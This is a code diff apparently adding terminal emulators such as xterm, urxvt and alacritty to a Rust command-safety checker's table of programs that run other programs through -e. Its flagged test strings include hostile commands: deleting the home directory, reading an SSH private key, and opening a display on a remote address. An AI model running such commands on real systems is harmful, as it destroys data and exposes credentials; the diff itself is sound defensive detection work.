@@ -593,6 +593,15 @@ pub const RUNNERS: &[Program] = &[
         ..P
     },
     Program {
+        names: &["xterm", "uxterm", "urxvt", "rxvt", "aterm", "lxterminal", "xfce4-terminal", "alacritty", "konsole"],
+        source: "man:xterm(1) (-e program [arguments ...] must be last); urxvt(1), alacritty(1), konsole and xfce4-terminal take -e the same way",
+        exec: &[OptArgv { names: &["-e"] }],
+        value_opts: &["-display", "-geometry", "-title", "-T", "-fn", "-fa", "-fs", "-bg", "-fg", "-name", "-class"],
+        flagged: &["xterm -e rm -rf ~", "urxvt -e sh -c 'cat ~/.ssh/id_rsa'", "xterm -display 203.0.113.41:1"],
+        clean: &["xterm -e htop", "xterm -display :0"],
+        ..P
+    },
+    Program {
         names: &["arch"],
         source: "man:arch(1) on macOS (arch [-arch_name | -arch arch_name]... [-d envname]... [-e envname=value]... prog [args ...]: runs prog under that architecture); GNU arch prints the machine and takes no operand",
         exec: &[Argv { skip: 0 }],
